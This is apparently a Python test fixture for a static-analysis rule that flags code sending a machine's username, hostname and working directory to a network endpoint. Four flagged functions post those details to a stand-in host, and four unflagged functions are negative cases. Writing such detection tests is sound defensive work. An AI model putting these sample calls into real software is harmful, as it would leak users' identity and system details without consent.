import getpass
import json
import os
import socket
from urllib.request import Request, urlopen

import requests

ADDRESS = "https://count.example.invalid/hello"


def hello():
    details = {"host": socket.gethostname(), "user": getpass.getuser(), "cwd": os.getcwd()}
    # ruleid: exfiltration/host-details-to-network
    requests.post(ADDRESS, json=details, timeout=3)


def hello_again():
    details = {"user": os.getlogin(), "host": socket.gethostname()}
    # ruleid: exfiltration/host-details-to-network
    urlopen(Request(ADDRESS, data=json.dumps(details).encode()))


def hello_at_once():
    # ruleid: exfiltration/host-details-to-network
    requests.post(ADDRESS, json={"user": getpass.getuser(), "host": socket.gethostname()}, timeout=3)


def hello_in_address():
    name = getpass.getuser() + "." + socket.gethostname()
    # ruleid: exfiltration/host-details-to-network
    requests.get(ADDRESS, params=name, timeout=3)


def count():
    # ok: exfiltration/host-details-to-network
    requests.post(ADDRESS, json={"version": "1.2"}, timeout=3)


def log(logger):
    details = {"user": getpass.getuser()}
    # ok: exfiltration/host-details-to-network
    logger.info("started", extra=details)


def register(address):
    details = {"host": socket.getfqdn()}
    # ok: exfiltration/host-details-to-network
    requests.post(address, json=details, timeout=3)


def login(address, password):
    user = getpass.getuser()
    # ok: exfiltration/host-details-to-network
    return requests.get(address, timeout=3), user, password
